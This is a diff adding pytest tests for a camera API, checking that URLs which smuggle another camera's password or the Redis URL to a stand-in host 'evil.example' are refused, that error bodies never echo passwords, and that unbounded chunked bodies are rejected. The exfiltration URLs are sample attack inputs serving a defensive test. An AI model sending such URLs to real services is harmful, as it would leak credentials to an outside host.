@@ -1,0 +1,70 @@
+"""The camera API's own answers to what a caller sends (`deployments/api.py`), on a real
+redis-server, the FastAPI app driven in-process (Serve's replica context stands in for the
+proxy): an API caller cannot make a decoder send its secrets elsewhere, a refused body never
+echoes a password, a body of unknown length is refused."""
+
+from __future__ import annotations
+
+import json
+import types
+
+import pytest
+
+from pipeline.config_env import foreign_variable_error
+from pipeline.config import CameraConfig
+
+
+@pytest.fixture
+def api(redis_server, monkeypatch):
+    from fastapi.testclient import TestClient
+    from ray import serve
+
+    import deployments.api as module
+
+    ingress = module.CameraApi.func_or_class.__mro__[1]  # the class as written, under Serve's ingress wrapper
+    instance = object.__new__(ingress)
+    ingress.__init__(instance, {"redis": {"url": redis_server.url, "stream_prefix": "apiin"}}, decoder=None)
+    monkeypatch.setattr(serve, "get_replica_context", lambda: types.SimpleNamespace(servable_object=instance))
+    with TestClient(module.app, raise_server_exceptions=False) as client:
+        yield client
+
+
+def test_an_api_camera_names_only_its_own_variables_as_its_credentials(api, redis_server):
+    """A decoder expands a URL's ${VAR}s from its whole environment and opens the host the URL
+    names: over the API, ${PERCEPT_REDIS_URL} in a path, another camera's password, or its own in
+    a host name (a DNS lookup) would carry them to the caller's host. Refused (422) naming the
+    variable; a config file's cameras are not checked (the operator's)."""
+    for url in ("rtsp://admin:${CAM_DOOR_PASSWORD}@evil.example/s", "rtsp://evil.example/${PERCEPT_REDIS_URL}",
+                "rtsp://${CAM_X_PASSWORD}.evil.example/s", "http://cam/v.cgi?user=${CAM_X_USER}&pwd=${CAM_X_PASSWORD}"):
+        r = api.post("/cameras", json={"id": "x", "url": url})
+        assert r.status_code == 422, (url, r.text)
+        [line] = r.json()["detail"]
+        assert line.startswith("cameras[x].url: ${") and "names only variables named for it (CAM_X_…)" in line, line
+    assert redis_server.client().hgetall("apiin:cameras") == {}
+    for url in ("rtsp://admin:${CAM_X_PASSWORD}@cam/s", "http://cam/v.cgi?user=admin&pwd=${CAM_X_PASSWORD}&ch=1"):
+        r = api.post("/cameras", json={"id": "x", "url": url})
+        assert r.status_code == 201, (url, r.text)
+        assert api.delete("/cameras/x").status_code == 200
+    assert foreign_variable_error(CameraConfig(id="front-2", url="rtsp://${CAM_FRONT_2_USER}:${CAM_FRONT_2_PASSWORD}@c/s"),
+                                  "url") is None
+
+
+def test_a_refused_body_never_echoes_what_was_sent(api):
+    """FastAPI's own 422 quotes the input: a camera URL sent alone, its password in it."""
+    for body in (json.dumps("rtsp://admin:S3cretPW@cam/x"), json.dumps([{"id": "a", "url": "rtsp://u:S3cretPW@c/x"}])):
+        r = api.post("/cameras", content=body, headers={"content-type": "application/json"})
+        assert r.status_code == 422 and "S3cretPW" not in r.text, r.text
+        assert r.json()["detail"][0].startswith("body: "), r.text
+
+
+def test_a_body_without_a_length_is_refused(api):
+    """The 1 MiB bound was checked on Content-Length only: a chunked body was read whole."""
+    def chunks():
+        yield b'{"id": "a", "url": "rtsp://cam/x", "pad": "'
+        for _ in range(4):
+            yield b"x" * (1 << 20)
+        yield b'"}'
+
+    r = api.post("/cameras", content=chunks(), headers={"content-type": "application/json"})
+    assert r.status_code == 411 and "Content-Length" in r.json()["detail"], r.text
+    assert api.post("/cameras", content=b"x" * (2 << 20), headers={"content-type": "application/json"}).status_code == 413
